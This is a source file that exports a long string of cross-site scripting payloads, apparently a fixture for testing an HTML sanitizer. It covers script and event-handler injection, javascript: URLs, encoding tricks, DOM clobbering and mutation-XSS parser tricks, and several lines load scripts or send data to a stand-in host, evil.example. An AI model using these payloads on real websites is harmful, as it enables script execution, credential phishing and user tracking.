/** Each payload starts on a new line with `<` or `&`. */
export const xssPayloads = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script/y>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script type="module">import "https://evil.example/x.js"</script>
<script type="text/template"><img src=x onerror=alert(1)></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x oneRRor=alert(1)//
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1) onload=alert(2) onfocus=alert(3) tabindex=0 autofocus>
<img """><script>alert(1)</script>">
<img src="x" alt="a" onerror="alert(1)" / >
<img src=/a.png longdesc="javascript:alert(1)" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img src=/a.png srcset="https://evil.example/t.png 1x" sizes=100vw>
<img src=/a.png usemap=#m ismap><map name=m><area shape=default href="javascript:alert(1)"></map>
<img src=/a.png style="position:fixed;inset:0" class=modal hidden>
<img src=/a.png crossorigin=use-credentials referrerpolicy=unsafe-url fetchpriority=high>
<img src=https://evil.example/pixel.gif width=1 height=1>
<img src=https://evil.example/pixel.gif width=0>
<img src=https://evil.example/pixel.gif height=1px>
<img src=https://evil.example/pixel.gif width="" height="1">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="blob:https://site.example/x">
<img src="http://evil.example/plain.png">
<img src="//evil.example/x.png">
<img src="/\evil.example/x.png">
<img src="\\evil.example\x.png">
<img src="filesystem:https://site.example/x">
<img src="cid:part1">
<img src="ftp://evil.example/x.png">
<image src=x onerror=alert(1)>
<image xlink:href="data:image/svg+xml,x" onload=alert(1)>
<picture><source srcset="https://evil.example/t.png"><img src=x onerror=alert(1)></picture>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#13;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript://evil.example/%0Aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="DATA:TEXT/HTML,x">x</a>
<a href="blob:https://site.example/1">x</a>
<a href="filesystem:https://site.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://site.example">x</a>
<a href="about:blank">x</a>
<a href="chrome://settings">x</a>
<a href="intent://x#Intent;scheme=http;end">x</a>
<a href="ms-msdt:/id PCWDiagnostic">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/&#9;/evil.example">x</a>
<a href="&#10;//evil.example">x</a>
<a href="/.//evil.example">x</a>
<a href="https:evil.example">x</a>
<a href="https:/\evil.example/x" onclick=alert(1)>x</a>
<a href="https://user:secret@evil.example/">x</a>
<a href="https://site.example@evil.example/">x</a>
<a href="https://evil.example" target=_top rel=opener>x</a>
<a href="https://evil.example" ping="https://evil.example/seen">x</a>
<a href="https://evil.example" attributionsrc="https://evil.example/seen">x</a>
<a href="/x" download="setup.exe">x</a>
<a href="/x" style="position:fixed;inset:0">x</a>
<a href="/x" onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>
<a href="/x" accesskey=a popovertarget=p contenteditable draggable=true>x</a>
<a href='x' onclick&#61;alert(1)>x</a>
<a href="#" id=location name=cookie>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href=javascript:alert(1) href=/x>x</a>
<a href="/x" href="javascript:alert(1)">x</a>
<a
href
=
"javascript:alert(1)">x</a>
<h2 id=forms>a</h2><h2 id=forms name=submit>b</h2>
<h2 id="document">clobber</h2>
<h2 id="__proto__">clobber</h2>
<h3 id="x onclick=alert(1)">x</h3>
<h3 id='"><script>alert(1)</script>'>x</h3>
<form id=document><input name=cookie></form>
<form name=body><input name=innerHTML id=attributes></form>
<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form><input type=image src=x onerror=alert(1)></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus>x</textarea>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<keygen onfocus=alert(1) autofocus>
<isindex type=image src=1 onerror=alert(1)>
<button popovertarget=x onclick=alert(1)>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe><iframe><iframe><script>alert(1)</script></iframe></iframe>
<iframe src=x onload=alert(1) sandbox="allow-scripts allow-same-origin">
<fencedframe src="https://evil.example"></fencedframe>
<portal src="https://evil.example"></portal>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>" type=text/html></object>
<object classid=clsid:x><param name=movie value="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>" type=image/svg+xml>
<applet code=x archive="https://evil.example/x.jar"></applet>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; https://evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=referrer content=unsafe-url>
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="https://evil.example/">
<base target=_blank>
<base href="javascript:/a/-alert(1)///////">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example/seen">
<link rel=manifest href="https://evil.example/m.json">
<style>body{background:url(https://evil.example/seen)}</style>
<style>@import "https://evil.example/x.css";</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<style><!--</style><img src=x onerror=alert(1)>-->
<style></style/><img src=x onerror=alert(1)>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(#x);-moz-binding:url(https://evil.example/x.xml#a)">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:#fff">You are signed out</p>
<p class="fixed inset-0 btn-primary" id=root data-testid=x>x</p>
<p dir=rtl lang=xx translate=no hidden inert aria-hidden=true role=alert slot=x is=x-y part=z>x</p>
<div style=content:attr(onclick) onclick=alert(1)>x</div>
<div onanimationstart=alert(1) ontransitionend=alert(1)>x</div>
<div onpointerrawupdate=alert(1) onwheel=alert(1) onbeforematch=alert(1) hidden=until-found>x</div>
<div onscrollend=alert(1) onscrollsnapchange=alert(1) oncontentvisibilityautostatechange=alert(1)>x</div>
<div itemscope itemtype="https://evil.example" itemprop=x data-x="<script>">x</div>
<font color=red size=7 face=x>x</font><center>x</center><marquee onstart=alert(1)>x</marquee><blink>x</blink>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.html"></layer>
<xml id=x><x><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></x></xml>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<!--->
<img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>
<% alert(1) %><?php alert(1) ?>{{constructor.constructor('alert(1)')()}}<p>\${alert(1)}</p>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><image href="https://evil.example/seen"/></svg>
<svg><style>*{background:url(https://evil.example/seen)}</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi><table><mglyph><style><math><table id="</table></style><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><tr><td><form><table><math><mtext><style><img src=x onerror=alert(1)></style>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<table><caption onclick=alert(1)>x</caption><td onclick=alert(1) colspan=100000 rowspan=99999999>x</td></table>
<table><th scope="col onclick=alert(1)" headers=x abbr=x>x</th></table>
<table><a href="javascript:alert(1)"><script>alert(1)</script><tr><td></a></table>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)" autoplay src="https://evil.example/x.mp4"></video>
<audio src=x onerror=alert(1) autoplay>
<track default src="https://evil.example/x.vtt" oncuechange=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<body onload=alert(1)><html onclick=alert(1) manifest="https://evil.example/m"><head><title>x</title></head>
<body background="javascript:alert(1)">
<plaintext><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<custom-element onclick=alert(1) is=x>x</custom-element>
<x onclick=alert(1)>x</x><x:y onclick=alert(1)>x</x:y><a/onclick=alert(1)/b>x
<p/onclick=alert(1)>x</p><p
onclick=alert(1)>x</p>
<p "=""onclick=alert(1)>x</p><p '=' onclick=alert(1)>x
<p onclick
=alert(1)>x</p><p on&#99;lick=alert(1)>x</p>
<blockquote cite="javascript:alert(1)" onclick=alert(1)>x</blockquote>
<q cite="javascript:alert(1)">x</q><ins cite="javascript:alert(1)">x</ins>
<ol start="1 onclick=alert(1)" type=x reversed><li value=9 onclick=alert(1)>x</ol>
<pre><code class="language-html" onclick=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>
&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;
<p>a</p hidden onclick=alert(1)><b <script>alert(1)</script>0
</p></div></body></html><script>alert(1)</script>
<a href="/x"><p><a href="javascript:alert(1)"><div></p></a></div>y</a>
<b><i><a href="/x" onclick=alert(1)></b></i>x</a>
`;
